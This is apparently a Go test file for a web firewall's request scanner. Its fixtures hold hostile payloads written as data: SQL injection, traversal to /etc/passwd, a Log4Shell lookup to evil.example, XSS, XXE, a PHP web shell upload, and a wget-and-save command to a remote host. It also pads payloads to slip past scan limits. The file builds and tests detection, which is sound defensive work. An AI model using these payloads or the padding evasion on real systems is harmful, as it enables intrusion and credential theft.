package attack

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"sort"
	"strings"
	"testing"
	"testing/iotest"

	"github.com/google/go-cmp/cmp"
	"github.com/vigilhq/vigil/internal/detect"
	"github.com/vigilhq/vigil/internal/vigiltest"
)

// codes returns the sorted codes of findings at or above min, for comparison.
func codes(fs []detect.Finding, min int) []string {
	var out []string
	for _, f := range fs {
		if f.Score >= min {
			out = append(out, f.Code)
		}
	}
	sort.Strings(out)
	return out
}

func TestNewRejectsNegativeBodyLimit(t *testing.T) {
	if _, err := New(Config{MaxBodyBytes: -1}); err == nil {
		t.Fatal("New(MaxBodyBytes: -1) succeeded, want an error")
	}
}

// requestCases feeds TestScanRequests: where a payload sits decides whether and
// how it is seen.
var requestCases = []struct {
	name string
	req  func() *http.Request
	want []string // codes at or above blockScore
}{
	{
		name: "clean_browser_get",
		req:  browserGET,
	},
	{
		name: "sqli_in_second_value_of_repeated_key",
		req: func() *http.Request {
			return httptest.NewRequest("GET", "/search?id=1&id="+url.QueryEscape("1' OR '1'='1"), nil)
		},
		want: []string{CodeSQLi},
	},
	{
		name: "traversal_in_raw_path",
		req:  func() *http.Request { return httptest.NewRequest("GET", "/static/..%2f..%2f..%2fetc%2fpasswd", nil) },
		want: []string{CodePathTraversal},
	},
	{
		name: "git_probe",
		req:  func() *http.Request { return httptest.NewRequest("GET", "/.git/config", nil) },
		want: []string{CodeScannerProbe},
	},
	{
		name: "env_probe_with_suffix",
		req:  func() *http.Request { return httptest.NewRequest("GET", "/.env.production", nil) },
		want: []string{CodeScannerProbe},
	},
	{
		name: "backup_probe",
		req:  func() *http.Request { return httptest.NewRequest("GET", "/wp-config.php.bak", nil) },
		want: []string{CodeScannerProbe},
	},
	{
		name: "database_dump_archive",
		req:  func() *http.Request { return httptest.NewRequest("GET", "/db_backup.sql.tar.bzip2", nil) },
		want: []string{CodeScannerProbe},
	},
	{
		name: "database_archive_by_name",
		req:  func() *http.Request { return httptest.NewRequest("GET", "/mysql.zip", nil) },
		want: []string{CodeScannerProbe},
	},
	{
		name: "download_archive_is_served",
		req:  func() *http.Request { return httptest.NewRequest("GET", "/downloads/report-2026.zip", nil) },
	},
	{
		name: "well_known_is_served",
		req:  func() *http.Request { return httptest.NewRequest("GET", "/.well-known/security.txt", nil) },
	},
	{
		name: "sqlmap_user_agent",
		req: func() *http.Request {
			r := httptest.NewRequest("GET", "/", nil)
			r.Header.Set("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")
			return r
		},
		want: []string{CodeScannerProbe},
	},
	{
		name: "crs_test_agent_is_not_an_attack",
		req: func() *http.Request {
			r := httptest.NewRequest("GET", "/get", nil)
			r.Header.Set("User-Agent", "OWASP CRS test agent")
			return r
		},
	},
	{
		name: "sec_ch_ua_and_accept_are_not_scanned",
		req: func() *http.Request {
			r := httptest.NewRequest("GET", "/", nil)
			r.Header.Set("Sec-Ch-Ua", `"Not/A)Brand";v="8", "Chromium";v="126", "Google Chrome";v="126"`)
			r.Header.Set("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
			return r
		},
	},
	{
		name: "log4shell_in_custom_header",
		req: func() *http.Request {
			r := httptest.NewRequest("GET", "/", nil)
			r.Header.Set("X-Api-Version", "${jndi:ldap://evil.example/a}")
			return r
		},
		want: []string{CodeLog4Shell},
	},
	{
		name: "xss_in_referer",
		req: func() *http.Request {
			r := httptest.NewRequest("GET", "/", nil)
			r.Header.Set("Referer", "https://example.com/?q=<script>alert(1)</script>")
			return r
		},
		want: []string{CodeXSS},
	},
	{
		name: "localhost_referer_is_not_ssrf",
		req: func() *http.Request {
			r := httptest.NewRequest("GET", "/", nil)
			r.Header.Set("Referer", "http://localhost:3000/dashboard")
			return r
		},
	},
	{
		name: "cookie_value_sqli",
		req: func() *http.Request {
			r := httptest.NewRequest("GET", "/", nil)
			r.Header.Set("Cookie", "theme=dark; uid=1%27%20UNION%20SELECT%20password%20FROM%20users--")
			return r
		},
		want: []string{CodeSQLi},
	},
	{
		name: "ognl_in_content_type",
		req: func() *http.Request {
			r := httptest.NewRequest("GET", "/", nil)
			r.Header.Set("Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}")
			return r
		},
		want: []string{CodeJavaInjection},
	},
	{
		name: "utf7_charset",
		req: func() *http.Request {
			r := httptest.NewRequest("POST", "/", strings.NewReader("a=b"))
			r.Header.Set("Content-Type", "application/x-www-form-urlencoded; charset=utf-7")
			return r
		},
		want: []string{CodeProtocol},
	},
	{
		name: "form_body_cmdi",
		req: func() *http.Request {
			r := httptest.NewRequest("POST", "/ping", strings.NewReader("host=127.0.0.1%3Bcat+%2Fetc%2Fpasswd&submit=go"))
			r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			return r
		},
		want: []string{CodeCmdi, CodePathTraversal},
	},
	{
		name: "json_body_nested_key_and_leaf",
		req: func() *http.Request {
			r := httptest.NewRequest("POST", "/api", strings.NewReader(`{"user":{"name":"<svg onload=alert(1)>","$where":"1"}}`))
			r.Header.Set("Content-Type", "application/json")
			return r
		},
		want: []string{CodeSQLi, CodeXSS},
	},
	{
		name: "json_unicode_escaped_payload",
		req: func() *http.Request {
			r := httptest.NewRequest("POST", "/api", strings.NewReader(`{"q":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`))
			r.Header.Set("Content-Type", "application/json")
			return r
		},
		want: []string{CodeXSS},
	},
	{
		name: "xml_body_xxe",
		req: func() *http.Request {
			r := httptest.NewRequest("POST", "/api", strings.NewReader(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`))
			r.Header.Set("Content-Type", "application/xml")
			return r
		},
		// The entity's system identifier is also a file URL naming /etc/passwd.
		want: []string{CodePathTraversal, CodeSSRF, CodeXXE},
	},
	{
		name: "xml_attribute_value_decoded",
		req: func() *http.Request {
			r := httptest.NewRequest("POST", "/api", strings.NewReader(`<?xml version="1.0"?><r><a probe="&lt;script&gt;alert(1)&lt;/script&gt;"/></r>`))
			r.Header.Set("Content-Type", "text/xml")
			return r
		},
		want: []string{CodeXSS},
	},
	{
		name: "text_body_java_class",
		req: func() *http.Request {
			r := httptest.NewRequest("POST", "/", strings.NewReader("test=java.lang.Runtime"))
			r.Header.Set("Content-Type", "text/plain")
			return r
		},
		want: []string{CodeJavaInjection},
	},
	{
		name: "body_without_content_type_read_as_form",
		req: func() *http.Request {
			return httptest.NewRequest("POST", "/", strings.NewReader("cmd=system(whoami)"))
		},
		want: []string{CodePHPInjection},
	},
	{
		name: "binary_body_not_read",
		req: func() *http.Request {
			r := httptest.NewRequest("POST", "/upload", strings.NewReader("<script>alert(1)</script>"))
			r.Header.Set("Content-Type", "application/octet-stream")
			return r
		},
	},
	{
		name: "multipart_filename_and_field",
		req: func() *http.Request {
			var b bytes.Buffer
			mw := multipart.NewWriter(&b)
			fw, _ := mw.CreateFormFile("upload", "../../shell.php")
			fw.Write([]byte("<?php system($_GET['c']); ?>"))
			mw.WriteField("comment", "nice photo; thanks")
			mw.Close()
			r := httptest.NewRequest("POST", "/upload", &b)
			r.Header.Set("Content-Type", mw.FormDataContentType())
			return r
		},
		want: []string{CodePathTraversal, CodePHPInjection},
	},
	{
		name: "session_id_from_other_site",
		req: func() *http.Request {
			r := httptest.NewRequest("GET", "http://shop.example.com/login?jsessionid=ABC123", nil)
			r.Header.Set("Referer", "https://attacker.example/")
			return r
		},
		want: []string{CodeSessionFixation},
	},
	{
		name: "session_id_same_site",
		req: func() *http.Request {
			r := httptest.NewRequest("GET", "http://shop.example.com/login?jsessionid=ABC123", nil)
			r.Header.Set("Referer", "http://shop.example.com/cart")
			return r
		},
	},
	{
		name: "transfer_encoding_with_content_length",
		req: func() *http.Request {
			r := httptest.NewRequest("POST", "/", strings.NewReader("0\r\n\r\n"))
			r.TransferEncoding = []string{"chunked"}
			r.Header.Set("Content-Length", "5")
			return r
		},
		want: []string{CodeProtocol},
	},
}

func TestScanRequests(t *testing.T) {
	s := newScanner(t)
	for _, tc := range requestCases {
		t.Run(tc.name, func(t *testing.T) {
			fs, err := s.ScanRequest(nil, tc.req())
			if err != nil {
				t.Fatalf("Scan: %v", err)
			}
			if diff := cmp.Diff(tc.want, codes(fs, blockScore)); diff != "" {
				t.Errorf("blocking codes (-want +got):\n%s\nfindings: %+v", diff, fs)
			}
		})
	}
}

func TestScanFindingDetail(t *testing.T) {
	s := newScanner(t)
	r := httptest.NewRequest("POST", "/api", strings.NewReader(`{"user":{"name":"x\u0027 OR 1=1 --"}}`))
	r.Header.Set("Content-Type", "application/json")
	fs, err := s.ScanRequest(nil, r)
	if err != nil {
		t.Fatal(err)
	}
	// A quote closed, OR, and the rest of the query commented away: the excerpt
	// starts at the quote.
	want := []detect.Finding{{Detector: "attack", Code: "sqli", Score: 85, Detail: "body:json:user.name: sqli (' OR 1=1 --)"}}
	if diff := cmp.Diff(want, fs); diff != "" {
		t.Errorf("findings (-want +got):\n%s", diff)
	}
}

// An attack in a field whose name says it holds a secret is reported without the
// value: it is still someone's password, token or session.
func TestScanFindingDetailWithholdsSecrets(t *testing.T) {
	s := newScanner(t)
	r := httptest.NewRequest("POST", "/login?session_token=%27%20OR%201%3D1--", strings.NewReader(`{"user":{"Password":"Hunter2' OR '1'='1"}}`))
	r.Header.Set("Content-Type", "application/json")
	r.Header.Set("Cookie", "SESSIONID=<script>alert(1)</script>")
	fs, err := s.ScanRequest(nil, r)
	if err != nil {
		t.Fatal(err)
	}
	var details []string
	for _, f := range fs {
		details = append(details, f.Detail)
		if strings.Contains(f.Detail, "Hunter2") || strings.Contains(f.Detail, "OR") || strings.Contains(f.Detail, "script") {
			t.Errorf("detail quotes a secret field's value: %q", f.Detail)
		}
	}
	for _, want := range []string{"sqli in query:session_token (value withheld, ", "sqli in body:json:user.Password (value withheld, ", "xss in cookie:SESSIONID (value withheld, "} {
		if !slices.ContainsFunc(details, func(d string) bool { return strings.HasPrefix(d, want) }) {
			t.Errorf("no finding %q… in %q", want, details)
		}
	}
	for name, want := range map[string]bool{"password": true, "new-password": true, "api_key": true, "X-Auth-Token": true, "pin": true,
		"shipping": false, "author": false, "q": false, "user.name": false, "keyword": false} {
		if got := sensitiveName(name); got != want {
			t.Errorf("sensitiveName(%q) = %v", name, got)
		}
	}
}

func TestFindingDetailEscapesAndCuts(t *testing.T) {
	f := finding(CodeProtocol, 90, loc{kind: "query", name: "q"}, "a\r\nSet-Cookie: x=1\x00"+strings.Repeat("y", 100))
	// 24 bytes of escaped prefix and 24 of the padding make the 48-byte excerpt.
	const want = `query:q: protocol (a\r\nSet-Cookie: x=1\x00` + "yyyyyyyyyyyyyyyyyyyyyyyy)"
	if f.Detail != want {
		t.Errorf("Detail = %q, want %q", f.Detail, want)
	}
}

// bodyCases feeds TestScanRestoresBody and the FuzzScanBody seeds.
var bodyCases = []struct {
	name        string
	contentType string
	body        string
}{
	{"form", "application/x-www-form-urlencoded", "a=1&b=" + url.QueryEscape("<script>alert(1)</script>")},
	{"json", "application/json", `{"a":[1,"two",{"b":null}],"c":"d"}`},
	{"json_invalid", "application/json", `{"a": "unterminated`},
	{"xml", "application/xml", `<a x="1"><b>text</b><![CDATA[<x>]]></a>`},
	{"text", "text/plain", "hello; world"},
	{"multipart", "multipart/form-data; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\nv\r\n--XyZ--\r\n"},
	{"multipart_bad", "multipart/form-data; boundary=XyZ", "--XyZ\r\nno headers here"},
	{"no_content_type", "", "k=v&x=1"},
	{"binary", "image/png", "\x89PNG\r\n\x1a\n"},
	{"empty", "application/json", ""},
}

func TestScanRestoresBody(t *testing.T) {
	s, err := New(Config{MaxBodyBytes: 64})
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range bodyCases {
		for _, size := range []int{0, 200} {
			body := tc.body + strings.Repeat("z", size)
			t.Run(tc.name, func(t *testing.T) {
				r := httptest.NewRequest("POST", "/", strings.NewReader(body))
				if tc.contentType != "" {
					r.Header.Set("Content-Type", tc.contentType)
				}
				cl := r.ContentLength
				fs, err := s.ScanRequest(nil, r)
				if err != nil {
					t.Fatalf("Scan: %v", err)
				}
				got, err := io.ReadAll(r.Body)
				if err != nil {
					t.Fatalf("reading restored body: %v", err)
				}
				if string(got) != body {
					t.Fatalf("restored body = %q, want %q", got, body)
				}
				if r.ContentLength != cl {
					t.Errorf("ContentLength = %d, want %d", r.ContentLength, cl)
				}
				big := len(body) > 64 && bodyKindOf(tc.contentType) != bodyNone
				if big != hasCode(fs, CodeBodyNotScanned, 1) && tc.name != "multipart_bad" {
					t.Errorf("body of %d bytes: body_not_scanned = %v, want %v (%+v)", len(body), !big, big, fs)
				}
				if r.GetBody != nil {
					rc, _ := r.GetBody()
					again, _ := io.ReadAll(rc)
					if string(again) != body {
						t.Errorf("GetBody replays %q, want %q", again, body)
					}
				} else if !big && bodyKindOf(tc.contentType) != bodyNone && body != "" {
					t.Error("GetBody is nil for a fully read body")
				}
			})
		}
	}
}

func TestScanBodyOverLimitStillScansPrefix(t *testing.T) {
	s, err := New(Config{MaxBodyBytes: 1024})
	if err != nil {
		t.Fatal(err)
	}
	body := "q=" + url.QueryEscape("<script>alert(1)</script>") + "&pad=" + strings.Repeat("a", 4096)
	r := httptest.NewRequest("POST", "/", strings.NewReader(body))
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	fs, _ := s.ScanRequest(nil, r)
	if diff := cmp.Diff([]string{CodeBodyNotScanned, CodeXSS}, codes(fs, 1)); diff != "" {
		t.Errorf("codes (-want +got):\n%s", diff)
	}
}

func TestScanContentEncodingNotScanned(t *testing.T) {
	s := newScanner(t)
	r := httptest.NewRequest("POST", "/", strings.NewReader("\x1f\x8b compressed"))
	r.Header.Set("Content-Type", "application/json")
	r.Header.Set("Content-Encoding", "gzip")
	fs, _ := s.ScanRequest(nil, r)
	if !hasCode(fs, CodeBodyNotScanned, 1) {
		t.Errorf("gzip body: %+v, want body_not_scanned", fs)
	}
	if got, _ := io.ReadAll(r.Body); string(got) != "\x1f\x8b compressed" {
		t.Errorf("body changed: %q", got)
	}
}

func TestScanBodyReadErrorIsReplayed(t *testing.T) {
	s := newScanner(t)
	boom := errors.New("connection reset")
	r := httptest.NewRequest("POST", "/", nil)
	r.Body = io.NopCloser(io.MultiReader(strings.NewReader("a=1&b=2"), iotest.ErrReader(boom)))
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	fs, err := s.ScanRequest(nil, r)
	if !errors.Is(err, boom) {
		t.Fatalf("Scan error = %v, want %v", err, boom)
	}
	if !hasCode(fs, CodeBodyNotScanned, 1) {
		t.Errorf("findings %+v, want body_not_scanned", fs)
	}
	got, err := io.ReadAll(r.Body)
	if string(got) != "a=1&b=2" || !errors.Is(err, boom) {
		t.Errorf("handler reads %q, %v; want %q, %v", got, err, "a=1&b=2", boom)
	}
}

// blocks reports whether findings block at the default threshold with default weights.
func blocks(fs []detect.Finding) bool { return detect.Combine(fs, nil) >= 80 }

// paddingCases are the reviewer's reproductions of attacks hidden behind padding, and
// their kin in bodies. The same table seeds FuzzScanPadding.
var paddingCases = []struct {
	name   string
	method string
	target string
	ct     string
	body   string
	want   string // a code that must be found at 80 or more
}{
	{"h1_query_params", "GET", "/search?" + strings.Repeat("a=b&", 513) + "id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", "", "", CodeSQLi},
	{"h1_query_2000_params", "GET", "/search?" + strings.Repeat("a=b&", 2000) + "id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", "", "", CodeSQLi},
	{"h2_long_query_value", "GET", "/search?q=" + strings.Repeat("a", 8200) + "%27%20UNION%20SELECT%20username,password%20FROM%20users--", "", "", CodeSQLi},
	{"h2_long_value_at_window_edge", "GET", "/search?q=" + strings.Repeat("a", WindowBytes-10) + "%27%20UNION%20SELECT%20username,password%20FROM%20users--", "", "", CodeSQLi},
	{"h2_very_long_query_value", "GET", "/search?q=" + strings.Repeat("lorem+ipsum+", 9000) + "%3Cscript%3Ealert(1)%3C/script%3E", "", "", CodeXSS},
	{"h2_long_cookie", "GET", "/", "", "", CodeSQLi}, // Cookie set below
	{"form_body_params", "POST", "/login", "application/x-www-form-urlencoded", strings.Repeat("a=b&", 3000) + "user=admin%27%20OR%201%3D1--", CodeSQLi},
	{"form_body_long_value", "POST", "/comment", "application/x-www-form-urlencoded", "text=" + strings.Repeat("a", 30000) + "%3Cscript%3Ealert(1)%3C/script%3E", CodeXSS},
	{"json_body_long_string", "POST", "/api", "application/json", `{"note":"` + strings.Repeat("a", 30000) + `","q":"1' UNION SELECT password FROM users--"}`, CodeSQLi},
	{"json_body_long_string_tail", "POST", "/api", "application/json", `{"note":"` + strings.Repeat("a", 30000) + ` ${jndi:ldap://evil.example/a}"}`, CodeLog4Shell},
	{"json_body_many_keys", "POST", "/api", "application/json", `{` + strings.Repeat(`"a":1,"b":"c",`, 2000) + `"q":"<script>alert(1)</script>"}`, CodeXSS},
	{"multipart_long_field", "POST", "/upload", "multipart/form-data; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\n" + strings.Repeat("a ", 10000) + "<script>alert(1)</script>\r\n--XyZ--\r\n", CodeXSS},
	{"text_body_tail", "POST", "/", "text/plain", strings.Repeat("b", 20000) + " ; cat /etc/passwd", CodePathTraversal},
}

func paddingRequest(method, target, ct, body string) *http.Request {
	var r *http.Request
	if body == "" {
		r = httptest.NewRequest(method, target, nil)
	} else {
		r = httptest.NewRequest(method, target, strings.NewReader(body))
		r.Header.Set("Content-Type", ct)
	}
	return r
}

func TestScanPaddingCannotHideAttack(t *testing.T) {
	s := newScanner(t)
	for _, tc := range paddingCases {
		t.Run(tc.name, func(t *testing.T) {
			r := paddingRequest(tc.method, tc.target, tc.ct, tc.body)
			if tc.name == "h2_long_cookie" {
				r.Header.Set("Cookie", "pad="+strings.Repeat("x", 9000)+"; id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--")
			}
			fs, err := s.ScanRequest(nil, r)
			if err != nil {
				t.Fatal(err)
			}
			if !hasCode(fs, tc.want, 80) || !blocks(fs) {
				t.Errorf("score %d, findings %+v; want %s ≥ 80 and a block", detect.Combine(fs, nil), fs, tc.want)
			}
			for _, c := range []string{CodeTooManyParams, CodeValueTooLong, CodeBodyNotScanned} {
				if hasCode(fs, c, 1) {
					t.Errorf("%s on a request within the scan budget: %+v", c, fs)
				}
			}
		})
	}
}

func TestScanReviewerReproductionsWithoutPaddingBlock(t *testing.T) {
	s := newScanner(t)
	fs, _ := s.ScanRequest(nil, httptest.NewRequest("GET", "/search?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", nil))
	if !hasCode(fs, CodeSQLi, 95) {
		t.Errorf("findings %+v, want sqli 95", fs)
	}
}

// TestScanLargeBenignRequestsAllowed keeps ordinary large requests under the default
// block threshold.
func TestScanLargeBenignRequestsAllowed(t *testing.T) {
	var records strings.Builder
	records.WriteString(`{"records":[`)
	for i := 0; records.Len() < 200<<10; i++ {
		if i > 0 {
			records.WriteByte(',')
		}
		fmt.Fprintf(&records, `{"id":%d,"name":"Customer %d","email":"c%d@example.com","city":"Zürich","note":"Called on 2024-05-%02d; prefers e-mail, not phone."}`, i, i, i, i%28+1)
	}
	records.WriteString(`]}`)
	var rich strings.Builder
	for rich.Len() < 40<<10 {
		rich.WriteString(`<p>Our <b>spring</b> collection is <i>here</i>: see <a href="https://shop.example.com/new">the new arrivals</a> &amp; save 20% today.</p>`)
	}
	var checks strings.Builder
	for i := 0; i < 2000; i++ {
		fmt.Fprintf(&checks, "ids%%5B%%5D=%d&", 100000+i)
	}
	checks.WriteString("action=delete&csrf=3f2a9c4e8b1d4e7a")

	s := newScanner(t)
	for _, tc := range []struct {
		name, method, target, ct, body string
		want                           []string // codes at or above 1
	}{
		{"json_upload_200k", "POST", "/api/import", "application/json", records.String(), []string{CodeBodyNotScanned}},
		{"rich_text_field", "POST", "/admin/page", "application/x-www-form-urlencoded", "title=Spring&body=" + url.QueryEscape(rich.String()), nil},
		{"rich_text_json", "POST", "/admin/page", "application/json", `{"body":"` + strings.ReplaceAll(rich.String(), `"`, `\"`) + `"}`, nil},
		{"admin_form_2000_checkboxes", "POST", "/admin/bulk", "application/x-www-form-urlencoded", checks.String(), []string{CodeProtocol}},
		{"query_2000_params", "GET", "/admin/bulk?" + checks.String(), "", "", []string{CodeProtocol}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			fs, err := s.ScanRequest(nil, paddingRequest(tc.method, tc.target, tc.ct, tc.body))
			if err != nil {
				t.Fatal(err)
			}
			if blocks(fs) {
				t.Errorf("blocked (score %d): %+v", detect.Combine(fs, nil), fs)
			}
			var got []string
			for _, f := range fs {
				if f.Code != CodeXSS { // rich text may draw a weak xss signal
					got = append(got, f.Code)
				}
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("codes (-want +got):\n%s\n%+v", diff, fs)
			}
		})
	}
}

// TestScanOverBudget covers what lies beyond the scan budget: alone it is a moderate
// signal; next to an attack indicator in the scanned part it blocks.
func TestScanOverBudget(t *testing.T) {
	s := newScanner(t)
	pad := strings.Repeat("a=b&", s.budget()/2+16) // each pair costs two bytes
	attack := "id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"
	weak := "img=../images/logo.png&" // path_traversal 70: an indicator, not a block
	long := "q=" + strings.Repeat("a", s.budget()+16)
	for _, tc := range []struct {
		name   string
		query  string
		want   []string
		blocks bool
	}{
		{"values_past_budget", pad + attack, []string{CodeProtocol, CodeTooManyParams}, false},
		{"values_past_budget_with_indicator", weak + pad + attack, []string{CodePathTraversal, CodeProtocol, CodeTooManyParams}, true},
		{"value_past_budget", long + attack[2:], []string{CodeValueTooLong}, false},
		{"value_past_budget_with_indicator", weak + long, []string{CodePathTraversal, CodeValueTooLong}, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			fs, _ := s.ScanRequest(nil, httptest.NewRequest("GET", "/?"+tc.query, nil))
			if diff := cmp.Diff(tc.want, codes(fs, 1)); diff != "" {
				t.Errorf("codes (-want +got):\n%s", diff)
			}
			if blocks(fs) != tc.blocks {
				t.Errorf("blocks = %v (score %d), want %v: %+v", blocks(fs), detect.Combine(fs, nil), tc.blocks, fs)
			}
		})
	}
}

func TestScanBodyPastBoundWithIndicatorBlocks(t *testing.T) {
	s, err := New(Config{MaxBodyBytes: 1024})
	if err != nil {
		t.Fatal(err)
	}
	body := "img=../images/logo.png&pad=" + strings.Repeat("a", 2048) + "&q=" + url.QueryEscape("<script>alert(1)</script>")
	r := httptest.NewRequest("POST", "/", strings.NewReader(body))
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	fs, _ := s.ScanRequest(nil, r)
	if !hasCode(fs, CodeBodyNotScanned, budgetScore) || !blocks(fs) {
		t.Errorf("findings %+v, want body_not_scanned %d and a block", fs, budgetScore)
	}
}

func TestScanValueExaminesLongValuesWhole(t *testing.T) {
	s := newScanner(t)
	for _, n := range []int{WindowBytes - 40, WindowBytes, WindowBytes + 1, 2*WindowBytes - WindowOverlap - 3, 5 * WindowBytes} {
		fs := s.ScanValue(nil, "query:q", strings.Repeat("a ", n/2)+"<script>alert(1)</script>"+strings.Repeat(" b", n/2))
		if diff := cmp.Diff([]string{CodeXSS}, codes(fs, 1)); diff != "" {
			t.Errorf("length %d: codes (-want +got):\n%s", n, diff)
		}
	}
	// A long value draws one finding per code, not one per window.
	fs := s.ScanValue(nil, "query:q", strings.Repeat("<script>alert(1)</script> ", 2000))
	if diff := cmp.Diff([]string{CodeXSS}, codes(fs, 1)); diff != "" {
		t.Errorf("repeated payload: codes (-want +got):\n%s", diff)
	}
	if fs := s.ScanValue(nil, "query:q", strings.Repeat("a ", 4*WindowBytes)); len(fs) != 0 {
		t.Errorf("long clean value: %+v", fs)
	}
}

func TestScanValueDoesNotAllocateOnCleanValues(t *testing.T) {
	s := newScanner(t)
	for _, v := range []string{"price", "2", "Hello world, how are you?", "https://example.com/a/b?c=d", "GA1.2.1234567890.1699999999"} {
		n := vigiltest.AllocsPerRun(100, func() {
			if fs := s.ScanValue(nil, "query:q", v); len(fs) != 0 {
				t.Fatalf("ScanValue(%q) = %+v", v, fs)
			}
		})
		if n != 0 {
			t.Errorf("ScanValue(%q) allocates %v times, want 0", v, n)
		}
	}
}

func TestUserAgentCacheKeepsOnlyCleanValues(t *testing.T) {
	s := newScanner(t)
	for _, ua := range []string{"Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0", "sqlmap/1.7.2#stable"} {
		var first []detect.Finding
		for i := 0; i < 3; i++ {
			r := httptest.NewRequest("GET", "/", nil)
			r.Header.Set("User-Agent", ua)
			fs, _ := s.ScanRequest(nil, r)
			if i == 0 {
				first = fs
			}
			if diff := cmp.Diff(first, fs); diff != "" {
				t.Fatalf("User-Agent %q, request %d (-first +now):\n%s", ua, i, diff)
			}
		}
		if got, want := s.clean.has(ua, kindUA), len(first) == 0; got != want {
			t.Errorf("cache has %q = %v, want %v", ua, got, want)
		}
	}
}

func TestCookieCacheKeepsOnlyCleanHeaders(t *testing.T) {
	s := newScanner(t)
	for _, tc := range []struct {
		name   string
		cookie string
		clean  bool
	}{
		{"session", "session=3f1c2a9e8b7d6c5f4a3b2c1d0e9f8a7b; theme=dark", true},
		{"sqli_value", "session=abc; pref=1' OR '1'='1", false},
		{"xss_name", "<script>alert(1)</script>=1", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var first []detect.Finding
			for i := 0; i < 3; i++ {
				r := httptest.NewRequest("GET", "/", nil)
				r.Header.Set("Cookie", tc.cookie)
				fs, _ := s.ScanRequest(nil, r)
				if i == 0 {
					first = fs
				}
				if diff := cmp.Diff(first, fs); diff != "" {
					t.Fatalf("request %d (-first +now):\n%s", i, diff)
				}
			}
			if (len(first) == 0) != tc.clean {
				t.Fatalf("findings %+v, want clean=%v", first, tc.clean)
			}
			if got := s.clean.has(tc.cookie, kindCookies); got != tc.clean {
				t.Errorf("cache has the header = %v, want %v", got, tc.clean)
			}
		})
	}
}

// A Cookie header examined only in part (the budget ran out) is not remembered as
// clean: the rest of it was never looked at.
func TestCookieCacheSkipsPartlyScannedHeaders(t *testing.T) {
	s := newScanner(t)
	cookie := "a=" + strings.Repeat("x", 100) + "; b=1"
	st := reqState{budget: 10}
	s.scanCookiesCached(nil, &st, cookie)
	if st.cut == 0 && st.skipped == 0 {
		t.Fatalf("budget of 10 did not cut the header: %+v", st)
	}
	if s.clean.has(cookie, kindCookies) {
		t.Error("a partly examined Cookie header was remembered as clean")
	}
}

// A remembered query gives the same findings as a scanned one: the parameter count
// (for the many-parameters finding) is replayed, and queries that scanned dirty or
// name a session identifier are not remembered.
func TestQueryCache(t *testing.T) {
	s := newScanner(t)
	for _, tc := range []struct {
		name     string
		query    string
		remember bool
	}{
		{"clean", "page=2&sort=price", true},
		{"many_params", strings.Repeat("a=1&", manyParams+10), false}, // longer than the cache holds
		// With a form body of 100 parameters, 200 in the query make too many: the
		// count must survive the cache.
		{"many_short_params", strings.Repeat("a&", 200), true},
		{"sqli", "id=1%27%20OR%201=1--", false},
		{"session_id", "PHPSESSID=abc123", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var first []detect.Finding
			for i := 0; i < 3; i++ {
				r := httptest.NewRequest("GET", "/p?"+tc.query, nil)
				if tc.name == "many_short_params" {
					r = httptest.NewRequest("POST", "/p?"+tc.query, strings.NewReader(strings.Repeat("b=1&", 100)))
					r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
				}
				fs, _ := s.ScanRequest(nil, r)
				if i == 0 {
					first = fs
				}
				if diff := cmp.Diff(first, fs); diff != "" {
					t.Fatalf("request %d (-first +now):\n%s", i, diff)
				}
			}
			if got := s.clean.has(tc.query, kindQuery); got != tc.remember {
				t.Errorf("cache has the query = %v, want %v (findings %+v)", got, tc.remember, first)
			}
			if tc.name == "many_short_params" && !hasCode(first, CodeProtocol, 1) {
				t.Errorf("no %s finding for 300 parameters: %+v", CodeProtocol, first)
			}
		})
	}
}

// User-Agents of real clients that read like command lines to a shell-minded scanner:
// product tokens between a comment's semicolons, and pip's JSON. A command that is
// not a product token is still one.
func TestUserAgentCommands(t *testing.T) {
	s := newScanner(t)
	for _, tc := range []struct {
		ua   string
		cmdi bool
	}{
		{"yacybot (-global; amd64 Linux 5.2.9-Jinsol; java 12.0.2; Europe/en) http://yacy.net/bot.html", false},
		{"yacybot (/global; amd64 FreeBSD 10.3-RELEASE; java 1.8.0_77; GMT/en) http://yacy.net/bot.html", false},
		{`pip/21.0.1 {"ci":null,"cpu":"x86_64","distro":{"id":"stretch","libc":{"lib":"glibc","version":"2.24"}}}`, false},
		{"Mozilla/5.0 (x; wget http://203.0.113.9/x.sh -O /tmp/x)", true},
		{"Mozilla/5.0 (x; java -jar /tmp/x.jar)", true},
		{"{cat,/etc/passwd}", true},
	} {
		r := httptest.NewRequest(http.MethodGet, "/", nil)
		r.Header.Set("User-Agent", tc.ua)
		fs, err := s.ScanRequest(nil, r)
		if err != nil {
			t.Fatal(err)
		}
		if got := hasCode(fs, CodeCmdi, blockScore); got != tc.cmdi {
			t.Errorf("User-Agent %q: cmdi %v, want %v (findings %+v)", tc.ua, got, tc.cmdi, fs)
		}
	}
}
